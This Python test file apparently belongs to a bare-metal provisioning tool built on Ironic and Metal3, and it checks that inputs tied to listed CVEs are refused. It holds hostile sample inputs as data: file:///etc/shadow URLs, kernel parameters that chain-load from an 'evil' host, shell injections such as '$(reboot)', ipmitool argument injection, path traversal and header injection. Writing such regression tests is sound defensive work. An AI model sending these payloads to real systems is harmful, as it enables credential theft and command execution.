"""The holes that Ironic, its agent and Metal3 had: what went through them, and why nothing of it gets past us.

Three tables. `REFUSED`: an input of a user's, and the words of the refusal. `NEVER_TOLD`: what Ironic is never told, whatever a
user asks for. `CONFIGURED`: what the configuration that we run Ironic with says. Each line names its advisory.
"""

from __future__ import annotations

import configparser
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from ingot.api.admission import check
from ingot.api.baremetalhost import CustomDeploy, Image, RootDeviceHints
from ingot.api.hostfirmwarecomponents import FirmwareUpdate
from ingot.api.meta import Key
from ingot.provisioner import (
    Access,
    ConfigDrive,
    Credentials,
    Deployment,
    Failed,
    FirmwareChange,
    HostRef,
    OwnRamdisk,
    Preparation,
    Service,
    Subscription,
)
from ingot.provisioner.ironic import Ramdisk
from ingot.provisioner.ironic.drivers import DRIVERS, FAMILIES
from ingot.provisioner.ironic.firewall import Firewall, Policy
from ingot.provisioner.ironic.instance import (
    CUSTOM,
    RAMDISK,
    UnusableOrder,
    check_order,
    config_drive,
    deploy_steps,
    instance_differences,
)
from ingot.provisioner.ironic.model import FullNode
from ingot.provisioner.ironic.prepare import rounds
from ingot.provisioner.ironic.record import record_for
from ingot.provisioner.ironic.settings import PersistentBoot
from ingot.services.ironic_conf import render
from ingot.services.settings import IronicPaths, IronicSettings
from ingot.trust import Secret

HOST = HostRef(Key("rack", "h1"), "11111111-1111-1111-1111-111111111111")
DIGEST = "ab" * 32
IMAGE = Image(url="https://images/x.qcow2", checksum=DIGEST, checksum_type="sha256", format="qcow2")
WALL = Firewall(Policy())


def image(**fields: Any) -> Failed | None:
    usual = {"url": IMAGE.url, "checksum": DIGEST, "checksum_type": "sha256", "format": "qcow2"}
    return WALL.deployment(Deployment(image=Image(**usual | fields), config_drive=ConfigDrive()))


def access(**fields: Any) -> Failed | None:
    return WALL.access(HOST, Access(address="redfish://10.0.0.7", **{"credentials": None} | fields))


def ramdisk(**fields: Any) -> Failed | None:
    usual = {"url": "https://x/initrd", "format": "initrd", "kernel_url": "https://x/vmlinuz"}
    return access(ramdisk=OwnRamdisk(**usual | fields))


def arguments(text: str) -> Failed | None:
    return ramdisk(kernel_params=text)


def firmware(url: str) -> Failed | None:
    change = FirmwareChange(updates=(FirmwareUpdate(component="bios", url=url),))
    return WALL.preparation(Preparation(name="n", firmware=change)) and WALL.service(
        Service(name="n", firmware=change)
    )


def address(text: str) -> Failed | None:
    try:
        record_for(HOST, Access(address=text, credentials=None), Ramdisk())
    except ValueError as refused:
        return Failed(str(refused))
    return None


Refusal = tuple[str, Callable[[], Failed | None], str]

REFUSED: list[Refusal] = [
    # A file of the conductor's is written to a machine's disk.
    ("CVE-2025-44021", lambda: image(url="file:///etc/shadow"), "scheme has to be one of: http, https, oci"),
    ("CVE-2025-44021", lambda: image(url="FILE:/etc/shadow"), "scheme has to be one of"),
    ("CVE-2025-44021", lambda: image(url="/etc/shadow"), "scheme has to be one of"),
    ("CVE-2025-44021", lambda: image(url="file:///x.iso", format="live-iso"), "scheme has to be one of"),
    ("CVE-2025-44021", lambda: ramdisk(url="file:///etc/shadow"), "scheme has to be one of: http, https"),
    ("CVE-2025-44021", lambda: ramdisk(kernel_url="file:///etc/shadow"), "scheme has to be one of"),
    ("CVE-2025-44021", lambda: firmware("file:///etc/shadow"), "scheme has to be one of: http, https"),
    ("CVE-2025-44021", lambda: WALL.data_image("file:///etc/shadow"), "scheme has to be one of"),
    # A checksum that is read from a device which never ends.
    ("CVE-2026-44919", lambda: image(checksum="file:///dev/zero"), "scheme has to be one of: http, https"),
    ("CVE-2026-44919", lambda: image(checksum="/dev/zero"), "hexadecimal digits"),
    # An image without a checksum is converted unseen; one of a format that nobody named is guessed at by qemu-img.
    ("CVE-2024-47211", lambda: _order(Image(url=IMAGE.url, format="qcow2")), "has no checksum"),
    ("CVE-2024-44082", lambda: image(format="vhdx"), "spec.image.format is 'vhdx'"),
    # A line of a boot script.
    ("CVE-2026-46447", lambda: arguments("quiet\nchain http://evil/x"), "one line of printable ASCII"),
    ("CVE-2026-46447", lambda: arguments("quiet ${net0/mac}"), "'${net0/mac}' is not NAME or NAME=VALUE"),
    ("CVE-2026-46447", lambda: arguments("quiet || chain http://evil/x"), "'||' is not NAME"),
    ("CVE-2026-46447", lambda: arguments("quiet --initrd http://evil/x"), "'--initrd' is not NAME"),
    ("CVE-2026-46447", lambda: arguments('x="a\\" b'), "is not NAME or NAME=VALUE"),
    ("CVE-2026-46447", lambda: arguments("ipa-api-url=https://evil"), "set by the server that the ramdisk"),
    ("CVE-2026-46447", lambda: arguments('x="a ipa-api-url=https://evil b"'), "set by the server that the"),
    # A word of a shell, in the ramdisk.
    ("CVE-2026-66138", lambda: arguments("ipa-ntp-server=x;reboot"), "is not NAME or NAME=VALUE"),
    ("CVE-2026-66138", lambda: arguments('ipa-ntp-server="10.0.0.1 reboot"'), "has to be a host"),
    ("CVE-2026-66138", lambda: arguments("ipa_ntp_server=$(reboot)"), "is not NAME or NAME=VALUE"),
    # ipmitool is run with what a user wrote.
    ("CVE-2026-42510", lambda: address("ipmi://10.0.0.7?privilegelevel=-vvv"), "is not a privilege level"),
    ("CVE-2026-42510", lambda: address("ipmi://-oProxy/"), "neither an IP address nor a DNS name"),
    ("CVE-2026-42510", lambda: _password("right\nsol activate"), "line break or another control character"),
    # What leads from a subscription of the BMC's to its users.
    (
        "CVE-2026-90458",
        lambda: WALL.subscription_id("../../AccountService/Accounts/2"),
        "the name that the BMC",
    ),
    ("CVE-2026-90458", lambda: WALL.subscription_id(".."), "the name that the BMC gave"),
    ("CVE-2026-90458", lambda: address("redfish://h/redfish/v1/../AccountService"), "neither '..' nor"),
    ("CVE-2026-90458", lambda: address("redfish://h//evil/redfish/v1"), "begins with two slashes"),
    ("CVE-2026-90458", lambda: _subscription({"X-Y": "a\r\nAuthorization: b"}), "has to be one line"),
    ("CVE-2026-90458", lambda: _subscription({"Host": "evil"}), "belongs to the connection"),
    # A step of the agent's is chosen by name, and a name is no path.
    ("CVE-2026-48681", lambda: _method("../../bin/sh"), "expected the name of a deploy step"),
    ("CVE-2026-48681", lambda: _device("/dev/../etc/passwd"), "write /dev/NAME"),
]


def _order(found: Image) -> Failed | None:
    try:
        check_order(found, None)
    except UnusableOrder as problem:
        return Failed(str(problem))
    return None


def _password(text: str) -> Failed | None:
    return access(credentials=Credentials(username="admin", password=Secret(text)))


def _subscription(headers: dict[str, str]) -> Failed | None:
    secret = {name: Secret(value) for name, value in headers.items()}
    return WALL.subscription(Subscription(destination="https://x/events", headers=secret))


def _method(name: str) -> Failed | None:
    return WALL.image(None, CustomDeploy(method=name))


def _device(name: str) -> Failed | None:
    hints = RootDeviceHints(device_name=name)
    return WALL.deployment(Deployment(image=IMAGE, config_drive=ConfigDrive(), root_device=hints))


@pytest.mark.parametrize(
    ("attack", "words"),
    [(one[1], one[2]) for one in REFUSED],
    ids=[f"{one[0]}-{at}" for at, one in enumerate(REFUSED)],
)
def test_what_went_through_a_hole_is_refused_with_a_sentence(attack, words):
    answer = attack()
    assert isinstance(answer, Failed)
    assert words in answer.message
    assert not answer.message.endswith(".")
    assert answer.message.isprintable()
    assert "sol activate" not in answer.message


# What Ironic is never told


def every_record() -> list[dict[str, Any]]:
    own = OwnRamdisk(url="https://x/initrd", format="initrd", kernel_url="https://x/k", kernel_params="a=b")
    return [
        record_for(
            HOST,
            Access(
                address=f"{scheme}://10.0.0.7/redfish/v1/Systems/1",
                credentials=Credentials(username="u", password=Secret("p")),
                boot_mac="52:54:00:00:00:01",
                ramdisk=own,
            ),
            Ramdisk(),
        ).to_create()
        for scheme in DRIVERS
    ]


def every_instance() -> list[dict[str, Any]]:
    orders = [
        Deployment(image=one, custom_deploy=custom, config_drive=ConfigDrive(), pull_secret=Secret("u:p"))
        for one, custom in (
            (IMAGE, None),
            (Image(url="oci://registry/x@sha256:1"), None),
            (Image(url="https://x/live.iso", format="live-iso"), None),
            (None, CustomDeploy(method="install_coreos")),
            (IMAGE, CustomDeploy(method="install_coreos")),
        )
    ]
    node = FullNode(uuid="u", deploy_interface="direct")
    return [
        {one.path: one.value for one in instance_differences(node, HOST, order, PersistentBoot())}
        for order in orders
    ]


def told_to_ironic() -> set[str]:
    driver_info = {f"/driver_info/{key}" for record in every_record() for key in record["driver_info"]}
    return driver_info | {path for one in every_instance() for path in one}


NEVER_TOLD = {
    # A template of the boot script by its path.
    "CVE-2026-44917": "pxe_template",
    # What the serial console of ipmitool is started with.
    "CVE-2026-42510": "terminal_port",
    "CVE-2026-42510 (bridges)": "ipmi_bridging",
    # Kernel and ramdisk of an image make it one of partitions, and the agent then runs what is inside.
    "CVE-2026-43003": "/instance_info/kernel",
    "CVE-2026-43003 (ramdisk)": "/instance_info/ramdisk",
    # Settings that are kept at a URL of the user's choice.
    "CVE-2026-42997": "mold",
}


@pytest.mark.parametrize(("advisory", "key"), NEVER_TOLD.items())
def test_what_ironic_is_never_told(advisory, key):
    assert told_to_ironic()
    assert not [path for path in told_to_ironic() if key in path], advisory


def test_cve_2026_42510_a_driver_is_told_nothing_but_the_keys_of_its_protocol():
    known = {key for family in FAMILIES for key in family.keys}
    told = {key for record in every_record() for key in record["driver_info"]}
    assert told - known == {"deploy_kernel", "deploy_ramdisk", "kernel_append_params"}


def test_cve_2026_42997_no_order_has_a_step_that_keeps_or_fetches_settings_elsewhere():
    change = FirmwareChange(
        settings={"Turbo": "On"}, updates=(FirmwareUpdate(component="bmc", url="https://x/y"),)
    )
    steps = [
        (step["interface"], step["step"])
        for one in rounds(Preparation(name="n", firmware=change))
        for step in one.steps
    ]
    assert steps == [("bios", "apply_configuration"), ("firmware", "update")]


def test_cve_2026_48681_the_files_of_a_config_drive_have_no_names_of_the_users():
    drive = ConfigDrive(
        user_data=Secret("x"), network_data=Secret("links: []"), meta_data={"../../etc/passwd": "y"}
    )
    content = config_drive(HOST, drive)
    assert set(content) == {"meta_data", "user_data", "network_data"}


def test_cve_2026_54422_a_registrys_password_goes_to_no_container_and_no_other_server():
    for one in every_instance():
        assert one.get("/deploy_interface", "") in ("", CUSTOM, RAMDISK)
        if "/instance_info/image_pull_secret" in one:
            assert str(one["/instance_info/image_source"]).startswith("oci://")
    assert sum("/instance_info/image_pull_secret" in one for one in every_instance()) == 1


def test_cve_2026_48681_a_deploy_step_has_no_arguments_of_the_users():
    order = Deployment(custom_deploy=CustomDeploy(method="install_coreos"), config_drive=ConfigDrive())
    steps = deploy_steps(order)
    assert isinstance(steps, list)
    assert steps == [{"interface": "deploy", "step": "install_coreos", "args": {}, "priority": 80}]


# What the configuration says


def configuration() -> configparser.ConfigParser:
    here = Path("/state")
    settings = IronicSettings(
        paths=IronicPaths.below(here / "ironic"),
        cert_file=here / "crt",
        key_file=here / "key",
        ca_file=here / "ca",
        username="ingot",
        password_file=here / "password",
    )
    parser = configparser.ConfigParser(interpolation=None, default_section="none")
    parser.read_string(render(settings))
    return parser


ABSENT = None
CONFIGURED = [
    # An API, or a part of it, that answers whoever asks.
    ("CVE-2016-4985", "DEFAULT", "auth_strategy", "http_basic"),
    ("CVE-2023-40585", "DEFAULT", "auth_strategy", "http_basic"),
    ("CVE-2024-31463", "DEFAULT", "auth_strategy", "http_basic"),
    ("CVE-2026-50589", "DEFAULT", "auth_strategy", "http_basic"),
    ("CVE-2026-50589", "json_rpc", "auth_strategy", ABSENT),
    # Files of the conductor's: those that it serves anyway.
    ("CVE-2025-44021", "conductor", "file_url_allowed_paths", "/state/ironic/html"),
    # Ironic's own guards stay on.
    ("CVE-2024-44082", "conductor", "disable_deep_image_inspection", ABSENT),
    ("CVE-2024-47211", "conductor", "disable_file_checksum", ABSENT),
    ("CVE-2026-46447", "conductor", "disable_kernel_parameter_parsing", ABSENT),
    # There is no password that all image servers are sent, and no store for settings.
    ("CVE-2026-90461", "deploy", "image_server_auth_strategy", ABSENT),
    ("CVE-2026-90461", "deploy", "image_server_user", ABSENT),
    ("CVE-2026-90461", "deploy", "image_server_password", ABSENT),
    ("CVE-2026-42997", "molds", "password", ABSENT),
    # Containers are written by nobody who did not choose to.
    ("CVE-2026-54422", "DEFAULT", "default_deploy_interface", "direct"),
    # Consoles are started for nobody.
    ("CVE-2026-42510", "DEFAULT", "enabled_console_interfaces", "no-console"),
]


@pytest.mark.parametrize(("advisory", "group", "option", "value"), CONFIGURED)
def test_ironic_is_configured_so_that_a_hole_leads_nowhere(advisory, group, option, value):
    assert configuration().get(group, option, fallback=None) == value, advisory


# Secrets of others


@pytest.mark.parametrize(
    ("advisory", "kind", "spec"),
    [
        (
            "CVE-2024-43803",
            "BareMetalHost",
            {"online": True, "userData": {"name": "s", "namespace": "other"}},
        ),
        (
            "CVE-2025-29781",
            "BMCEventSubscription",
            {
                "hostName": "h1",
                "destination": "https://x/y",
                "httpHeadersRef": {"name": "s", "namespace": "other"},
            },
        ),
    ],
)
def test_a_secret_of_another_namespace_is_not_read(advisory, kind, spec):
    found = check("metal3.io", kind, {"metadata": {"name": "h1", "namespace": "rack"}, "spec": spec}, None)
    assert ["the Secret has to be in the namespace" in one.message for one in found] == [True], advisory


def test_cve_2026_90461_an_image_may_be_fetched_only_from_hosts_that_the_site_names():
    wall = Firewall(Policy(image_hosts=("images.example.com", ".cdn.example.com", "10.0.0.0/8")))
    for url in ("https://images.example.com/x", "https://a.cdn.example.com/x", "http://10.1.2.3/x"):
        assert wall.image(replace_url(url), None) is None
    for url in (
        "https://evil/x",
        "https://cdn.example.com/x",
        "https://images.example.com.evil/x",
        "http://11.0.0.1/x",
    ):
        refused = wall.image(replace_url(url), None)
        assert refused is not None
        assert "INGOT_IMAGE_HOSTS" in refused.message


def replace_url(url: str) -> Image:
    return Image(url=url, checksum=DIGEST, checksum_type="sha256", format="raw")


def test_what_is_no_attack_passes():
    order = Deployment(
        image=IMAGE, config_drive=ConfigDrive(), root_device=RootDeviceHints(device_name="/dev/sda")
    )
    assert WALL.deployment(order) is None
    assert WALL.deployment(replace(order, pull_secret=Secret("u:p"))) is None
    assert arguments("rd.net.timeout.carrier=30 console=ttyS0,115200n8 ip=dhcp") is None
    assert (
        arguments(
            'coreos.live.rootfs_url=https://[fd00::1]:6180/rootfs.img ipa-ntp-server=10.0.0.1,ntp.x x="a b"'
        )
        is None
    )
    assert WALL.subscription_id("1") is None
